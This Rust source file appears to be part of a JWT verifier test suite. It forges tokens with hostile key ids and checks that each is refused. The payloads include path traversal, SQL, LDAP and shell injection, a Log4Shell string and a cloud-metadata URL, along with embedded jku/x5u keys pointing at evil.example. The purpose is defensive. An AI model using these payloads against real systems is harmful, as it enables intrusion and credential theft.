//! Keys: ids that are attacks, keys that the token brings along, and keys of somebody else.
//!
//! ```text
//! kid/…        an id is compared with those that are known, and never used as a path, a query or an address
//! embedded/…   `jwk`, `jku`, `x5u`, `x5c`: a token does not say by which key it is judged
//! stranger/…   the same id, the same name, another key
//! ```

use serde_json::{Value, json};

use super::{Forge, code};
use crate::issuer::{Alg, Issuer, Key};

const UNKNOWN: &str = "no key has this id, and no other is tried (RFC 8725 §3.10)";
const NO_STRING: &str = "`kid` is a string (RFC 7515 §4.1.4)";
const BROUGHT: &str = "the key comes from the token itself (RFC 8725 §3.10, CVE-2018-0114)";
const FETCHED: &str = "a verifier fetches no address that a token names (RFC 8725 §3.10)";

/// Ids that are attacks on whoever looks them up.
const IDS: &[(&str, &str)] = &[
    ("kid/path-traversal", "../../../../etc/passwd"),
    ("kid/absolute-path", "/proc/sys/kernel/randomize_va_space"),
    ("kid/windows-path", "..\\..\\windows\\win.ini"),
    ("kid/file-url", "file:///dev/null"),
    ("kid/url", "https://evil.example/jwks.json"),
    ("kid/metadata-url", "http://169.254.169.254/latest/meta-data/"),
    ("kid/sql", "x' UNION SELECT 'attackers-key' -- "),
    ("kid/sql-always-true", "' OR '1'='1"),
    ("kid/ldap", "*)(uid=*))(|(uid=*"),
    ("kid/shell", "x; id > /tmp/owned"),
    ("kid/shell-substitution", "$(id)"),
    ("kid/template", "{{7*7}}"),
    ("kid/log4shell", "${jndi:ldap://evil.example/a}"),
    ("kid/prototype", "__proto__"),
    ("kid/header-injection", "x\r\nx-evil: 1"),
    ("kid/xml", "<!DOCTYPE x SYSTEM 'http://evil.example/'>"),
    ("kid/empty", ""),
    ("kid/wildcard", "*"),
];

pub(super) fn all(forge: &mut Forge<'_>) {
    ids(forge);
    near_ids(forge);
    let impostor = forge.issuer.impostor();
    embedded(forge, &impostor);
    embedded_addresses(forge, &impostor);
    strangers(forge, &impostor);
}

fn ids(forge: &mut Forge<'_>) {
    for (name, id) in IDS {
        let token = forge.good().header("kid", *id).sign();
        forge.refuse(code::KEY_UNKNOWN, *name, UNKNOWN, token);
    }
    let huge = forge.good().header("kid", "k".repeat(6000)).sign();
    forge.refuse(code::KEY_UNKNOWN, "kid/huge", UNKNOWN, huge);
    // Whoever reads the key from the file that the id names reads an empty secret.
    let nothing = Key::from_secret(Alg::Hs256, "").with_id("../../../../dev/null");
    let token = forge.good().key(&nothing).sign();
    forge.refuse(code::KEY_UNKNOWN, "kid/dev-null-as-secret", UNKNOWN, token);
    for (name, json) in [
        ("kid/null", json!(null)),
        ("kid/number", json!(1)),
        ("kid/boolean", json!(true)),
        ("kid/object", json!({"$ne": null})),
        ("kid/array", json!([forge.issuer.key().id()])),
    ] {
        let token = forge.good().header("kid", json).sign();
        forge.refuse(code::MALFORMED, name, NO_STRING, token);
    }
}

/// Ids that a lax comparison takes for the issuer's own.
fn near_ids(forge: &mut Forge<'_>) {
    let id = forge.issuer.key().id().to_owned();
    let other_case = if id == id.to_uppercase() { id.to_lowercase() } else { id.to_uppercase() };
    for (name, near) in [
        ("kid/in-another-case", other_case),
        ("kid/with-nul", format!("{id}\0")),
        ("kid/with-nul-and-more", format!("{id}\0.pem")),
        ("kid/with-blank", format!("{id} ")),
        ("kid/with-slash", format!("./{id}")),
        ("kid/cut", id[1..].to_owned()),
        ("kid/with-zero-width-space", format!("{id}\u{200b}")),
    ] {
        let token = forge.good().header("kid", near).sign();
        forge.refuse(code::KEY_UNKNOWN, name, UNKNOWN, token);
    }
}

fn embedded(forge: &mut Forge<'_>, impostor: &Issuer) {
    let theirs = impostor.key();
    let forged = forge.good().forged_by(&theirs);
    let jwk = theirs.jwk();
    forge.refuse(code::SIGNATURE, "embedded/jwk", BROUGHT, forged.clone().header("jwk", jwk.clone()).sign());
    let nameless = forged.clone().without_header("kid").header("jwk", jwk.clone());
    forge.refuse(forge.nameless_code(), "embedded/jwk-without-kid", BROUGHT, nameless.sign());
    let own_id = theirs.clone().with_id("attacker-1");
    let token = forge.good().key(&own_id).header("jwk", own_id.jwk()).sign();
    forge.refuse(code::KEY_UNKNOWN, "embedded/jwk-with-its-own-kid", BROUGHT, token);

    let alg = forge.issuer.key().alg();
    let (hmac, expected) =
        if alg.is_shared_secret() { (alg, code::SIGNATURE) } else { (Alg::Hs256, code::ALGORITHM) };
    let secret = Key::from_secret(hmac, [7; 64]).with_id(forge.issuer.key().id());
    let token = forge.good().key(&secret).header("jwk", secret.jwk()).sign();
    forge.refuse(expected, "embedded/jwk-with-a-secret", BROUGHT, token);

    let set = forged.clone().header("jwks", impostor.jwks());
    forge.refuse(code::SIGNATURE, "embedded/jwk-set", BROUGHT, set.sign());
    let own = forged.claim("sub_jwk", jwk).claim("iss", "https://self-issued.me");
    forge.refuse(code::SIGNATURE, "embedded/self-issued", BROUGHT, own.sign());
}

fn embedded_addresses(forge: &mut Forge<'_>, impostor: &Issuer) {
    let theirs = impostor.key();
    let der = theirs.public_der().unwrap_or_default();
    let certificate = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, der);
    let headers: [(&str, &str, Value); 8] = [
        ("embedded/jku", "jku", json!("https://evil.example/jwks.json")),
        ("embedded/jku-behind-userinfo", "jku", json!("https://id.example@evil.example/jwks.json")),
        ("embedded/jku-on-an-open-redirect", "jku", json!("https://id.example/go?to=https://evil.example/")),
        ("embedded/jku-file", "jku", json!("file:///tmp/jwks.json")),
        ("embedded/x5u", "x5u", json!("https://evil.example/chain.pem")),
        ("embedded/x5c", "x5c", json!([certificate])),
        ("embedded/x5c-that-is-no-certificate", "x5c", json!(["AA"])),
        ("embedded/x5t", "x5t#S256", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
    ];
    for (name, header, value) in headers {
        let token = forge.good().forged_by(&theirs).header(header, value).sign();
        forge.refuse(code::SIGNATURE, name, FETCHED, token);
    }
}

fn strangers(forge: &mut Forge<'_>, impostor: &Issuer) {
    let same_id = "the id is the issuer's, the key is not";
    let token = impostor.token("ada").sign();
    forge.refuse(code::SIGNATURE, "stranger/same-name-and-kid", same_id, token);
    let token = impostor.token("ada").without_header("kid").sign();
    forge.refuse(forge.nameless_code(), "stranger/same-name-without-kid", same_id, token);
    let other = Issuer::named("https://other.example").with_alg(forge.issuer.key().alg());
    let other_key = other.key().with_id(forge.issuer.key().id());
    let token = forge.good().forged_by(&other_key).sign();
    forge.refuse(code::SIGNATURE, "stranger/another-issuers-key-with-the-same-kid", same_id, token);
    let token = forge.good().claim("iss", other.name()).forged_by(&other_key).sign();
    forge.refuse(code::SIGNATURE, "stranger/another-issuers-own-token", same_id, token);
    let token = forge.good().key(&other.key().with_id("other-1")).sign();
    forge.refuse(code::KEY_UNKNOWN, "stranger/unknown-kid", UNKNOWN, token);
    let retired = forge.issuer.retired_key();
    let token = forge.good().key(&retired).sign();
    forge.refuse(code::KEY_UNKNOWN, "stranger/retired-key", "a key that was withdrawn signs no more", token);
}
